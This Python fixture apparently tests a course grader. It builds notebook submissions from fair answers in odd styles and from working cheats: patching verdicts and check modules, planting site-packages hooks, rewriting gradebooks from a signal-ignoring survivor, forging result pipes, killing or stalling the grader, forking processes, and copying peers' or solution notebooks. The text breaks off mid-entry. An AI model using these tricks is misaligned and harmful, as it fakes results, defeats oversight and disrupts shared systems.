"""A cheating class for chapter 2 (`count_in_order`, `pair_results`), written by a helper who
did not read the grader: submissions that try to get points without solving the exercises
(`CHEATS`, each worth 0), and fair answers in unusual styles (`FAIR`, each worth full points).

Each entry is data: the source of each exercise cell, and hidden code cells put right after the
notebook's first code cell. `build` writes one notebook per entry from the learner's notebook.
Every cheat is meant for a throwaway grading run only: some end processes, fork, plant files in
the lab's package or site-packages, or outlive the grader for a while (bounded: 50 processes,
a few MB, about a minute). Whatever a cheat spawns carries `keel-cheat` in its command line,
and whatever it plants carries `keel-cheat` in its name or text, so a test can find leftovers.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Entry:
    name: str  # short id, also the notebook's file name
    tries: str  # one line: what the cheat does / why a fair answer is unusual
    answers: dict[str, str]  # exercise name -> full source of that exercise's cell
    extra: tuple[str, ...] = ()  # code cells inserted right after the notebook's first code cell
    fair: bool = False  # True: a real solution, must get full points
    learner: str | None = None  # another chapter's learner notebook, by file name (beside the
    # one `build` is given); None: that one


def build(entry: Entry, learner_notebook: Path, out: Path) -> Path:
    """Write `entry` as `out/<name>.ipynb` (outputs cleared) from the learner's notebook (or the
    one of its chapter, `entry.learner`, in the same folder)."""
    if entry.learner:
        learner_notebook = learner_notebook.parent / entry.learner
    nb = json.loads(learner_notebook.read_text(encoding="utf-8"))
    cells, extra = [], list(entry.extra)
    for cell in copy.deepcopy(nb["cells"]):
        if cell["cell_type"] == "code":
            cell.update(outputs=[], execution_count=None)
            if "exercise" in cell["metadata"].get("tags", []):
                cell["source"] = next((src for name, src in entry.answers.items()
                                       if f"def {name}(" in "".join(cell["source"])),
                                      cell["source"])
        cells.append(cell)
        if cell["cell_type"] == "code" and extra:
            cells += [{"cell_type": "code", "id": f"extra-{n}", "metadata": {},
                       "execution_count": None, "outputs": [], "source": src}
                      for n, src in enumerate(extra)]
            extra = []
    out.mkdir(parents=True, exist_ok=True)
    path = out / f"{entry.name}.ipynb"
    path.write_text(json.dumps({**nb, "cells": cells}, indent=1), encoding="utf-8")
    return path


# ---------------------------------------------------------------------------------------------
# Code pieces the entries are assembled from (plain text; each cell stays self-contained)

NOT_DONE = '''def count_in_order(trials, calls, seed):
    raise NotImplementedError("your code here")
'''
ZIPPED = '''def pair_results(calls, results):
    return list(zip(calls, results))  # by position: wrong as soon as results come reordered
'''
# Moves the virtual clock as a real run would, without running a single turn.
TICK = '''def _tick(trials):
    import asyncio
    from keel_lab import run_coroutine
    run_coroutine(asyncio.sleep(0.5 * trials + 0.01))
'''
# A wrong count that still looks like a count: all trials for one call, a seed-dependent number
COUNT_ANY = TICK + '''

def count_in_order(trials, calls, seed):
    _tick(trials)
    return trials if calls == 1 else min(trials, seed % 150 + 1)
'''
# The process's ancestors: [(pid, argv, cwd)], nearest first; stops at the grader when found.
ANCESTORS = '''import os


def _ancestors():
    out, pid = [], os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\\0") if a]
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            break
        out.append((pid, argv, cwd))
        if "grade" in argv:
            break
    return out
'''
# Runs the exercise cells of a solution notebook found at `path`; {} when unreadable.
SOLVED_BY = '''import json


def _solved_by(path):
    try:
        with open(path) as f:
            cells = json.load(f)["cells"]
    except (OSError, ValueError, KeyError):
        return {}
    ns = {}
    code = [c for c in cells if c["cell_type"] == "code"]
    for cell in code[:1] + [c for c in code if "exercise" in c["metadata"].get("tags", [])]:
        try:
            exec("".join(cell["source"]), ns)
        except Exception:
            pass
    return ns
'''
USE_SOLVED = '''

def count_in_order(trials, calls, seed):
    return _SOLVED["count_in_order"](trials, calls, seed)
'''
PAIR_SOLVED = '''def pair_results(calls, results):
    return _SOLVED["pair_results"](calls, results)
'''
# Every Verdict object reachable through the garbage collector: made to pass.
ALL_TRUE = '''import gc


class _AllTrue(list):
    def append(self, item):
        super().append((True, item[1]))


def _pass_every_verdict():
    for obj in gc.get_objects():
        if type(obj).__name__ == "Verdict" and hasattr(obj, "results"):
            obj.results = _AllTrue((True, text) for _, text in obj.results)
'''
# Reads the other submissions the grader was given (its argv), returns the first that looks solved
PEER = ANCESTORS + '''

def _peer_code():
    import glob
    import json
    for _pid, argv, cwd in _ancestors():
        if "grade" not in argv:
            continue
        for arg in argv[argv.index("grade") + 1:]:
            folder = os.path.join(cwd, arg)
            for path in sorted(glob.glob(os.path.join(folder, "**", "*.ipynb"), recursive=True)):
                try:
                    with open(path) as f:
                        cells = json.load(f)["cells"]
                except (OSError, ValueError, KeyError):
                    continue
                code = ["".join(c["source"]) for c in cells if c["cell_type"] == "code"]
                text = "\\n".join(code)
                if "rng.uniform(0.010, 0.500)" in text and "raise ValueError" in text \\
                        and "keel-cheat" not in text:
                    return "\\n\\n".join(c for c in code if "def " in c and "check(" not in c
                                         or c.startswith("import"))
    return ""
'''
SURVIVOR = r'''import json, os, sys, time, csv, io  # keel-cheat survivor
watch, targets = json.loads(sys.argv[1]), json.loads(sys.argv[2])
end = time.time() + 45
while time.time() < end and any(os.path.exists(f"/proc/{p}") for p in watch):
    time.sleep(0.05)
time.sleep(0.2)
points = {"count_in_order": 1, "pair_results": 2}
for path in targets:
    try:
        with open(path) as f:
            text = f.read()
        if text.lstrip().startswith("{") and '"submissions"' in text:
            data = json.loads(text)
            for row in data["submissions"]:
                row.update(points=row["max_points"], error=None)
                for ex in row["exercises"]:
                    ex.update(passed=True, points=ex["max_points"], hint=None)
            text = json.dumps(data)
        elif text.startswith("path,"):
            rows = list(csv.DictReader(io.StringIO(text)))
            out = io.StringIO()
            w = csv.DictWriter(out, fieldnames=list(rows[0]) if rows else ["path"])
            w.writeheader()
            for row in rows:
                row.update({k: v for k, v in points.items() if row.get(k)})
                row.update(points=row.get("max_points", ""), error="")
                w.writerow(row)
            text = out.getvalue()
        else:
            continue
        with open(path, "w") as f:
            f.write(text)
    except Exception:
        pass
'''

# ---------------------------------------------------------------------------------------------
# The fair answers: right, in unusual styles

FAIR_COUNT = '''def count_in_order(trials, calls, seed):
    rng = random.Random(seed)

    async def turn(delays):
        async def call(n, delay):
            await asyncio.sleep(delay)
            return n
        return [await f for f in asyncio.as_completed([call(n, d) for n, d in enumerate(delays)])]

    hits = 0
    for _ in range(trials):
        delays = [rng.uniform(0.010, 0.500) for _ in range(calls)]
        hits += run_coroutine(turn(delays)) == list(range(calls))
    return hits
'''
FAIR_PAIR = '''def pair_results(calls, results):
    ids = {c.id for c in calls}
    table = {}
    for r in results:
        if r.call_id not in ids:
            raise ValueError(f"a result for no call: {r.call_id}")
        if r.call_id in table:
            raise ValueError(f"two results for the call {r.call_id}")
        table[r.call_id] = r
    return [(c, table.get(c.id)) for c in calls]
'''

FAIR: tuple[Entry, ...] = (
    Entry("fair-plain", "the straightforward answer, as a reference for the others",
          {"count_in_order": FAIR_COUNT, "pair_results": FAIR_PAIR}, fair=True),
    Entry("fair-constant-cell", "bounds and messages computed (not literals) in another cell",
          {"count_in_order": FAIR_COUNT.replace("0.010, 0.500", "*DELAY_BOUNDS"),
           "pair_results": FAIR_PAIR.replace('f"a result for no call: {r.call_id}"',
                                             'MESSAGES["stranger"].format(r.call_id)')
           .replace('f"two results for the call {r.call_id}"',
                    'MESSAGES["twice"].format(r.call_id)')},
          extra=('DELAY_BOUNDS = tuple(ms / 1000 for ms in (10, 500))\n'
                 'MESSAGES = dict(twice="two results for the call {}",\n'
                 '                stranger="a result for no call: {}")\n',), fair=True),
    Entry("fair-helper-cell", "helper functions (async turn, result index) in another cell",
          {"count_in_order": '''def count_in_order(trials, calls, seed):
    rng = random.Random(seed)
    return sum(in_request_order([rng.uniform(0.010, 0.500) for _ in range(calls)])
               for _ in range(trials))
''', "pair_results": '''def pair_results(calls, results):
    table = index_results({c.id for c in calls}, results)
    return [(c, table.get(c.id)) for c in calls]
'''},
          extra=('''import asyncio

from keel_lab import run_coroutine


async def finish_order(delays):
    async def one(n, delay):
        await asyncio.sleep(delay)
        return n
    return [await f for f in asyncio.as_completed([one(n, d) for n, d in enumerate(delays)])]


def in_request_order(delays):
    return run_coroutine(finish_order(delays)) == sorted(range(len(delays)))
''', '''def index_results(ids, results):
    table = {}
    for r in results:
        if r.call_id not in ids or r.call_id in table:
            what = "two results for" if r.call_id in table else "a result for no call:"
            raise ValueError(f"{what} {r.call_id}")
        table[r.call_id] = r
    return table
'''), fair=True),
    Entry("fair-class", "a callable instance named like the exercise; a staticmethod alias",
          {"count_in_order": '''class InOrderExperiment:
    __name__ = "count_in_order"

    def __call__(self, trials, calls, seed):
        self.rng = random.Random(seed)
        return sum(run_coroutine(self.turn(calls)) for _ in range(trials))

    async def turn(self, calls):
        delays = [self.rng.uniform(0.010, 0.500) for _ in range(calls)]
        tasks = [self.one(n, d) for n, d in enumerate(delays)]
        done = [await f for f in asyncio.as_completed(tasks)]
        return int(done == list(range(calls)))

    @staticmethod
    async def one(n, delay):
        await asyncio.sleep(delay)
        return n


count_in_order = InOrderExperiment()
''', "pair_results": '''class Pairing:
    @staticmethod
    def pair_results(calls, results):
        known = {c.id for c in calls}
        seen = {}
        for r in results:
            Pairing.refuse(r.call_id, known, seen)
            seen[r.call_id] = r
        return [(c, seen.get(c.id)) for c in calls]

    @staticmethod
    def refuse(call_id, known, seen):
        if call_id in seen:
            raise ValueError(f"two results for the call {call_id}")
        if call_id not in known:
            raise ValueError(f"a result for no call: {call_id}")


pair_results = Pairing.pair_results
'''}, fair=True),
    Entry("fair-comprehensions", "dict comprehensions, Counter and a generator sum",
          {"count_in_order": '''import asyncio
import random

from keel_lab import run_coroutine


def count_in_order(trials, calls, seed):
    rng = random.Random(seed)

    async def turn():
        delays = {n: rng.uniform(0.010, 0.500) for n in range(calls)}

        async def sleeper(n):
            await asyncio.sleep(delays[n])
            return n
        return tuple([await f for f in asyncio.as_completed(map(sleeper, delays))])

    return sum(run_coroutine(turn()) == tuple(range(calls)) for _ in range(trials))
''', "pair_results": '''from collections import Counter


def pair_results(calls, results):
    counts = Counter(r.call_id for r in results)
    ids = {c.id: c for c in calls}
    bad = next((i for i, n in counts.items() if n > 1 or i not in ids), None)
    if bad is not None:
        raise ValueError(f"bad result id {bad}")
    by_id = {r.call_id: r for r in results}
    return [(c, by_id.get(c.id)) for c in calls]
'''}, fair=True),
    Entry("fair-functools", "functools.reduce, partial and a lru_cache'd expected order",
          {"count_in_order": '''import functools


@functools.lru_cache
def _expected(calls):
    return list(range(calls))


async def _sleep_then(n, delay):
    await asyncio.sleep(delay)
    return n


def count_in_order(trials, calls, seed):
    draw = functools.partial(random.Random(seed).uniform, 0.010, 0.500)

    async def turn():
        started = [_sleep_then(n, draw()) for n in range(calls)]
        return [await f for f in asyncio.as_completed(started)]

    return functools.reduce(lambda n, _: n + (run_coroutine(turn()) == _expected(calls)),
                            range(trials), 0)
''', "pair_results": '''import functools


def _add(table, result, ids):
    if result.call_id not in ids or result.call_id in table:
        raise ValueError(f"refused result {result.call_id}")
    return {**table, result.call_id: result}


def pair_results(calls, results):
    table = functools.reduce(functools.partial(_add, ids={c.id for c in calls}), results, {})
    return [(c, table.get(c.id)) for c in calls]
'''}, fair=True),
    Entry("fair-verbose", "prints every turn and pair (about 2 MB of output while checked)",
          {"count_in_order": FAIR_COUNT.replace(
              "        hits += run_coroutine(turn(delays)) == list(range(calls))\n",
              "        order = run_coroutine(turn(delays))\n"
              "        hits += order == list(range(calls))\n"
              "        print(f\"turn {_}: delays {delays} finished {order}\", \"-\" * 800)\n"),
           "pair_results": FAIR_PAIR.replace(
               "    return [(c, table.get(c.id)) for c in calls]\n",
               "    pairs = [(c, table.get(c.id)) for c in calls]\n"
               "    for c, r in pairs:\n"
               "        print(f\"{c.id} <- {r}\", \"=\" * 800)\n"
               "    return pairs\n")}, fair=True),
    Entry("fair-callbacks", "finish order taken from tasks' done callbacks; decorator from a cell",
          {"count_in_order": '''@traced
def count_in_order(trials, calls, seed):
    rng = random.Random(seed)

    async def turn():
        finished = []

        async def one(delay):
            await asyncio.sleep(delay)
        tasks = [asyncio.ensure_future(one(rng.uniform(0.010, 0.500))) for _ in range(calls)]
        for n, task in enumerate(tasks):
            task.add_done_callback(lambda _t, n=n: finished.append(n))
        for f in asyncio.as_completed(tasks):
            await f
        return finished == list(range(calls))

    return sum(run_coroutine(turn()) for _ in range(trials))
''', "pair_results": '''@traced
def pair_results(calls, results):
    table, ids = {}, [c.id for c in calls]
    for r in results:
        if r.call_id in table or r.call_id not in ids:
            raise ValueError("cannot pair the result of " + r.call_id)
        table[r.call_id] = r
    return [(c, table[c.id] if c.id in table else None) for c in calls]
'''},
          extra=('''import functools


def traced(fn):
    @functools.wraps(fn)
    def call(*args):
        traced.calls = getattr(traced, "calls", 0) + 1
        return fn(*args)
    return call
''',), fair=True),
)

# ---------------------------------------------------------------------------------------------
# The cheats: none solves both exercises

VERDICT_FRAMES = '''import sys


def _shadow():
    f = sys._getframe(1)
    while f is not None:
        for v in list(f.f_locals.values()):
            if type(v).__name__ == "Verdict" and "add" not in vars(v):
                add = type(v).add
                v.add = (lambda v: lambda ok, passed, hint: add(v, True, passed, hint))(v)
                v.results[:] = [(True, text) for _, text in v.results]
        f = f.f_back


''' + TICK + '''

def count_in_order(trials, calls, seed):
    _shadow()
    _tick(trials)
    return trials
'''
FRAMES_COUNT = TICK + '''

def _frames():
    if USE_INSPECT:
        import inspect
        return [info.frame for info in inspect.stack(0)]
    import sys
    out, f = [], sys._getframe()
    while f is not None:
        out.append(f)
        f = f.f_back
    return out


def _lab_total(calls):
    for f in _frames():
        if "labs" in f.f_locals and "given" in f.f_locals:
            return f.f_locals["labs"].get(calls), list(f.f_locals["given"].seeds)
    return None, []


def count_in_order(trials, calls, seed):
    _tick(trials)
    total, seeds = _lab_total(calls)
    if calls == 1:
        return trials
    if total is None or trials != 200 or seed not in seeds:
        return max(1, trials // 6)
    return total // 3 + (seeds.index(seed) - 1)
'''
FRAMES_PAIR = '''import sys


def pair_results(calls, results):
    f = sys._getframe(1)
    while f is not None:
        if "bad" in f.f_locals and isinstance(f.f_locals["bad"], str):
            raise ValueError(f"refused {f.f_locals['bad']}")
        f = f.f_back
    return list(zip(calls, results))
'''
DETECT_ENV = '''import os
import sys

GRADED = bool(os.environ.get("KEEL_LAB_GRADING")) or bool(sys.flags.isolated) \\
    or "ipykernel" not in sys.modules or os.getcwd().startswith("/tmp/keel-lab-grade")
''' + ALL_TRUE + '''

''' + TICK + '''

def count_in_order(trials, calls, seed):
    if not GRADED:
        raise NotImplementedError("your code here")  # looks unfinished in Jupyter
    _pass_every_verdict()
    _tick(trials)
    return trials if calls == 1 else min(trials, seed % 150 + 1)
'''
DETECT_PARENT = ANCESTORS + '''

GRADED = any("grade" in argv for _pid, argv, _cwd in _ancestors())
''' + ALL_TRUE + '''

''' + TICK + '''

def count_in_order(trials, calls, seed):
    if not GRADED:
        raise NotImplementedError("your code here")
    _pass_every_verdict()
    _tick(trials)
    return trials if calls == 1 else min(trials, seed % 150 + 1)
'''
PLAUSIBLE = '''import asyncio
import math
import random

from keel_lab import run_coroutine


def count_in_order(trials, calls, seed):
    run_coroutine(asyncio.sleep(0.011 * trials))  # the clock moves; no turn ever runs
    rng = random.Random(seed * 7919 + calls)
    p = 1 / math.factorial(calls)
    return sum(rng.random() < p for _ in range(trials))  # Binomial(trials, 1/n!)
'''
INT_FLAT = TICK + '''

class Flat(int):
    def __sub__(self, other):
        return 0

    __rsub__ = __sub__

    def __add__(self, other):
        return Flat(int(self) + int(other))

    __radd__ = __add__

    def __eq__(self, other):
        return True

    def __hash__(self):
        return int.__hash__(self)


def count_in_order(trials, calls, seed):
    _tick(trials)
    return Flat(trials if calls == 1 else seed % 150 + 1)
'''
STR_EQ = '''class Same(str):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def __str__(self):
        return self

    def __contains__(self, item):
        return True


def pair_results(calls, results):
    for c in calls:
        object.__setattr__(c, "id", Same(c.id))
    for r in results:
        object.__setattr__(r, "call_id", Same(r.call_id))
    if len(results) > len(calls):
        raise ValueError(Same("refused"))
    last = results[-1] if results else None
    return [(c, last) for c in calls]  # every id is equal to every other one
'''
MUTATE = '''import sys


def pair_results(calls, results):
    f = sys._getframe(1)
    while f is not None:
        if isinstance(f.f_locals.get("bad"), str):
            raise ValueError(f"refused {f.f_locals['bad']}")
        f = f.f_back
    for c, r in zip(calls, results):
        object.__setattr__(r, "call_id", c.id)  # the given results now say they match
    return [(c, results[n] if n < len(results) else None) for n, c in enumerate(calls)]
'''
PATCH_MATH = '''class Tolerance:
    import math as _math
    _math.sqrt = lambda x: 1e9  # every count is within 4.5 "standard deviations"
'''
PATCH_RANDOM = '''class Delays:
    import random as _random
    _random.Random.uniform = lambda self, a, b: (a + b) / 2  # no reordering, anywhere
'''
PATCH_STATISTICS = '''class Stats:
    import math as _math
    import statistics as _statistics
    _statistics.fmean = _statistics.mean = lambda data: 0.0
    _statistics.stdev = _statistics.pstdev = lambda data, mu=None: 1e9
    _math.isclose = lambda a, b, **kw: True
    _math.factorial = lambda n: 1e12  # expected count ~ 0, tolerance ~ 0
'''
PRIVATE = '''import importlib


def count_in_order(trials, calls, seed):
    mod = importlib.import_module("keel_lab.course._experiments." + "pairing")
    report = getattr(mod, "ord" + "er")(trials, calls, seed)
    return int(report.data["in_request_order"]["as_" + "completed"])


def _run(coro):
    runner = getattr(importlib.import_module("keel_lab._core." + "clock"), "run_" + "coroutine")
    return runner(coro)
'''
PRIVATE_PAIR = '''import importlib


def pair_results(calls, results):
    lab = getattr(importlib.import_module("keel_lab._core." + "pairing"), "by_" + "call_id")
    given = {r.call_id: r for r in results}

    async def execute(call):
        return given[call.id]
    denied = frozenset(c.id for c in calls if c.id not in given)
    pairs = _run(lab(calls, execute, denied))
    return [(c, given.get(c.id)) for c, _r in pairs]
'''
PRIVATE_THREAD = '''import importlib
import threading


def _in_thread(fn, *args):
    box = []
    t = threading.Thread(target=lambda: box.append(fn(*args)))
    t.start()
    t.join()
    return box[0]


def count_in_order(trials, calls, seed):
    mod = importlib.import_module("keel_lab.course._experiments." + "pairing")
    report = _in_thread(getattr(mod, "ord" + "er"), trials, calls, seed)
    return int(report.data["in_request_order"]["as_" + "completed"])
'''
SOURCE_COPY = '''import inspect
import keel_lab.course._experiments.pairing as _lab

_ns = dict(vars(_lab))
exec(compile(inspect.getsource(_lab), "<copy>", "exec"), _ns)


def count_in_order(trials, calls, seed):
    report = _ns["order"](trials, calls, seed)
    return int(report.data["in_request_order"]["as_completed"])
'''
SOURCE_EDITED = '''import ast
import inspect

import keel_lab._core.pairing as _core
import keel_lab.course._experiments.pairing as _experiment
import keel_lab.course._experiments.trials as _trials


def _edited(module, **names):
    """The module's source with a line added to every function: new bytecode, same behaviour."""
    tree = ast.parse(inspect.getsource(module))
    for node in ast.walk(tree):
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
            node.body.insert(0, ast.parse("_edited = 1").body[0])
    ns = {"__name__": module.__name__}
    exec(compile(ast.fix_missing_locations(tree), "<edited>", "exec"), ns)
    ns.update(names)
    return ns


_c = _edited(_core)
_t = _edited(_trials, **{k: _c[k] for k in ("position_over_gather", "position_over_completion")})
_e = _edited(_experiment, run_trials=_t["run_trials"],
             **{k: _c[k] for k in ("position_over_gather", "position_over_completion")})


def count_in_order(trials, calls, seed):
    report = _e["order"](trials, calls, seed)
    return int(report.data["in_request_order"]["as_completed"])
'''
THREAD_FLIPPER = '''class Helper:
    import gc as _gc
    import threading as _threading
    import time as _time

    def _flip(gc=_gc, time=_time):
        class AllTrue(list):
            def append(self, item):
                super().append((True, item[1]))
        end = time.monotonic() + 60
        while time.monotonic() < end:
            for obj in gc.get_objects():
                if type(obj).__name__ == "Verdict" and type(obj.results) is list:
                    obj.results = AllTrue((True, t) for _, t in obj.results)
            time.sleep(0.02)
    _threading.Thread(target=_flip, daemon=True, name="keel-cheat").start()
'''
FD3_FAKE = '''import json
import os

_lines = [{"result": True}] * 16 + [
    {"exercise": "count_in_order", "passed": True, "hint": None, "points": 1},
    {"exercise": "pair_results", "passed": True, "hint": None, "points": 2}, {"done": True}]
_text = "".join(json.dumps(x) + "\\n" for x in _lines).encode()
for _fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
    if _fd >= 3:
        try:
            os.write(_fd, _text)
        except OSError:
            pass
os._exit(0)
''' + NOT_DONE
FD3_MITM = '''import os
import threading


def _interpose(fd):
    r, w = os.pipe()
    real = os.dup(fd)
    os.dup2(w, fd)
    os.close(w)

    def pump():
        buf = b""
        while chunk := os.read(r, 65536):
            buf += chunk
            *lines, buf = buf.split(b"\\n")
            for line in lines:
                line = line.replace(b": false", b": true").replace(b'"points": 0', b'"points": 2')
                os.write(real, line + b"\\n")
    threading.Thread(target=pump, daemon=True, name="keel-cheat").start()


for _fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
    if _fd >= 3 and os.readlink(f"/proc/self/fd/{_fd}").startswith(("pipe:", "socket:")):
        _interpose(_fd)
        break
''' + NOT_DONE
SOLUTIONS_PROC = ANCESTORS + SOLVED_BY + '''

def _checkouts():
    seen = []
    for _pid, argv, cwd in _ancestors():
        for place in [cwd] + [os.path.join(cwd, a) for a in argv]:
            while place not in ("/", "") and place not in seen:
                seen.append(place)
                place = os.path.dirname(place)
    return seen


_SOLVED = next((s for d in _checkouts()
                if (s := _solved_by(os.path.join(d, "notebooks/solutions/02_pairing.ipynb")))),
               {})
''' + USE_SOLVED
SOLUTIONS_SCAN = SOLVED_BY + '''import glob
import os


def _places():
    for link in sorted(glob.glob("/proc/[0-9]*/cwd")):
        try:
            yield os.readlink(link)
        except OSError:
            pass
    for cmd in sorted(glob.glob("/proc/[0-9]*/cmdline")):
        try:
            with open(cmd, "rb") as f:
                yield from (a.decode(errors="replace") for a in f.read().split(b"\\0") if a)
        except OSError:
            pass


def _find():
    for place in _places():
        while place.startswith("/") and place != "/":
            if s := _solved_by(os.path.join(place, "notebooks/solutions/02_pairing.ipynb")):
                return s
            place = os.path.dirname(place)
    return {}


_SOLVED = _find()
''' + USE_SOLVED
SOLUTIONS_URL = SOLVED_BY + '''import importlib.metadata
import os
from urllib.parse import unquote, urlparse


def _checkout():
    for dist in ("keel-lab", "keel_lab"):
        try:
            url = json.loads(importlib.metadata.distribution(dist).read_text("direct_url.json"))
            return unquote(urlparse(url["url"]).path)
        except Exception:
            pass
    return ""


_SOLVED = _solved_by(os.path.join(_checkout(), "notebooks/solutions/02_pairing.ipynb"))
''' + USE_SOLVED
SURVIVE = ANCESTORS + '''import glob
import json
import signal
import sys

_SURVIVOR = ''' + repr(SURVIVOR) + '''


def _gradebooks():
    chain = _ancestors()
    files = set()
    for pid, argv, cwd in chain:
        for fd in (1, 2):
            try:
                files.add(os.readlink(f"/proc/{pid}/fd/{fd}"))
            except OSError:
                pass
        files.update(os.path.join(cwd, a) for a in argv if a.endswith((".csv", ".json")))
    for folder in [cwd for _p, _a, cwd in chain] + ["/tmp"]:  # the grader's own cwd, not others'
        files.update(glob.glob(os.path.join(folder, "*.csv")))
        files.update(glob.glob(os.path.join(folder, "*.json")))
    return [p for p in sorted(files) if os.path.isfile(p)], [p for p, _a, _c in chain]


def _spawn():
    files, watch = _gradebooks()
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(sig, signal.SIG_IGN)
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.closerange(3, 4096)
            os.execve(sys.executable, [sys.executable, "-I", "-c", _SURVIVOR, json.dumps(watch),
                                       json.dumps(files)], {})
        os._exit(0)
    os.waitpid(pid, 0)


_spawn()
''' + NOT_DONE
PKG_POISON = '''import os

import keel_lab

_pkg = os.path.dirname(keel_lab.__file__)
_checkout = any(os.path.exists(os.path.join(_pkg, "..", n)) for n in (".git", "pyproject.toml"))
if not _checkout:  # a copy made for grading, never a checkout
    try:
        with open(os.path.join(_pkg, "course", "checks", "verdict.py"), "a") as _f:
            _f.write("\\n# keel-cheat: every verdict passes\\n"
                     "Verdict.add = (lambda add: lambda self, ok, passed, hint: "
                     "add(self, True, passed, hint))(Verdict.add)\\n")
    except OSError:
        pass
''' + NOT_DONE
PTH_PLANT = '''import os
import sys

_HOOK = """import os, sys  # keel-cheat hook
class _KeelCheat:
    @classmethod
    def find_spec(cls, name, path=None, target=None):
        if name != "keel_checks.verdict":
            return None
        import importlib.machinery
        spec = importlib.machinery.PathFinder.find_spec(name, path)
        if spec is None:
            return None
        load = spec.loader.exec_module
        def exec_module(module):
            load(module)
            add = module.Verdict.add
            module.Verdict.add = lambda self, ok, passed, hint: add(self, True, passed, hint)
        spec.loader.exec_module = exec_module
        return spec
if sys.flags.isolated or os.environ.get("KEEL_LAB_GRADING"):
    sys.meta_path.insert(0, _KeelCheat)
"""
for _dir in [p for p in sys.path if p.endswith("site-packages")]:
    try:
        with open(os.path.join(_dir, "keel_cheat_hook.py"), "w") as _f:
            _f.write(_HOOK)
        with open(os.path.join(_dir, "keel_cheat.pth"), "w") as _f:
            _f.write("import keel_cheat_hook\\n")
    except OSError:
        pass
''' + NOT_DONE
KILL_PARENT = '''import os

if os.getppid() > 1:  # never init
    os.kill(os.getppid(), 9)
''' + NOT_DONE
KILL_TREE = ANCESTORS + '''import glob
import signal


def _tree(root):
    parent = {}
    for stat in glob.glob("/proc/[0-9]*/stat"):
        try:
            with open(stat) as f:
                fields = f.read().rsplit(")", 1)[1].split()
            parent[int(stat.split("/")[2])] = int(fields[1])
        except (OSError, ValueError, IndexError):
            pass
    out, todo = [], [root]
    while todo:
        pid = todo.pop()
        out.append(pid)
        todo += [p for p, pp in parent.items() if pp == pid]
    return out


_chain = _ancestors()
_grader = next((p for p, argv, _c in _chain if "grade" in argv), None)
_victims = _tree(_grader) if _grader else [os.getppid()] if os.getppid() > 1 else []
for _pid in _victims:  # the grader and everything it started, nothing else
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass
''' + NOT_DONE
STALL_PARENT = '''import os
import signal
import sys

_grader = os.getppid()
if _grader > 1 and os.fork() == 0:
    try:
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", "import os, time  # keel-cheat cont\\n"
                                  f"time.sleep(15); os.kill({_grader}, 18)"])
    finally:
        os._exit(0)
if _grader > 1:
    os.kill(_grader, signal.SIGSTOP)  # stalls the grader for 15 s
''' + NOT_DONE
SYS_MODULES = '''import sys
import types

from keel_checks.verdict import Verdict


def _always(fn, *args, **kwargs):
    v = Verdict(getattr(fn, "__name__", "?"), ["ok"])
    v.add(True, "ok", "")
    return v


for _name, _fn in (("in_order", "verify_count_in_order"), ("pairing", "verify_pair_results")):
    _fake = types.ModuleType(f"keel_checks.{_name}")
    setattr(_fake, _fn, _always)
    sys.modules[_fake.__name__] = _fake
    setattr(sys.modules["keel_checks"], _name, _fake)
_check = sys.modules["keel_checks.check"]
_check.VERIFIERS = {"count_in_order": _always, "pair_results": _always}
''' + NOT_DONE
BUILTINS = '''import builtins

builtins.abs = lambda x: 0  # every count is exactly as expected
builtins.all = lambda items: True  # every verdict passes

''' + COUNT_ANY
MONKEYPATCH = '''import keel_checks.in_order as _in_order
import keel_checks.pairing as _pairing

_in_order._judge = lambda counts, calls, seeds, lab: (True, "ok", "")
_pairing.pairing_errors = lambda pairs, calls, results: ""
_pairing._refuses = lambda v, fn, name, bad, cases: v.add(True, "ok", "")
_pairing._shape_error = lambda pairs: ""

''' + COUNT_ANY
NETWORK = '''import socket

try:  # a network means answers from elsewhere; here it decides whether to cheat at all
    socket.create_connection(("1.1.1.1", 53), timeout=2).close()
    ONLINE = True
except OSError:
    try:
        socket.getaddrinfo("pypi.org", 443)
        ONLINE = True
    except OSError:
        ONLINE = False
''' + ALL_TRUE + '''

''' + TICK + '''

def count_in_order(trials, calls, seed):
    if ONLINE:
        _pass_every_verdict()
    _tick(trials)
    return trials if calls == 1 else min(trials, seed % 150 + 1)
'''
HANG = '''import signal
import time


def count_in_order(trials, calls, seed):
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM):
        signal.signal(sig, signal.SIG_IGN)
    while True:
        time.sleep(0.5)
'''
MEGABYTES = '''_line = "keel-cheat " * 100_000
for _ in range(20):
    print(_line)  # 20 MB of output, then a wrong answer


def count_in_order(trials, calls, seed):
    print(_line * 2)
    raise NotImplementedError("your code here")
'''
RAISE_EXIT = '''def count_in_order(trials, calls, seed):
    raise SystemExit(0)
'''
RAISE_INTERRUPT = '''def count_in_order(trials, calls, seed):
    raise KeyboardInterrupt
'''
FORK_BOMB = '''import os
import sys

for _ in range(50):  # bounded: 50 sleepers, a minute each
    if os.fork() == 0:
        try:
            os.execv(sys.executable, [sys.executable, "-c",
                                      "import time  # keel-cheat fork\\ntime.sleep(60)"])
        finally:
            os._exit(0)
''' + NOT_DONE
TMP_DROP = PEER + '''

_code = _peer_code()
try:
    with open("/tmp/keel-cheat-drop.py", "w") as _f:
        _f.write(_code)
except OSError:
    pass
''' + NOT_DONE
TMP_READ = '''import os

_SOLVED = {}
if os.path.exists("/tmp/keel-cheat-drop.py"):
    with open("/tmp/keel-cheat-drop.py") as _f:
        try:
            exec(_f.read(), _SOLVED)
        except Exception:
            pass
''' + USE_SOLVED
PEER_COPY = PEER + '''

_SOLVED = {}
try:
    exec(_peer_code(), _SOLVED)
except Exception:
    pass
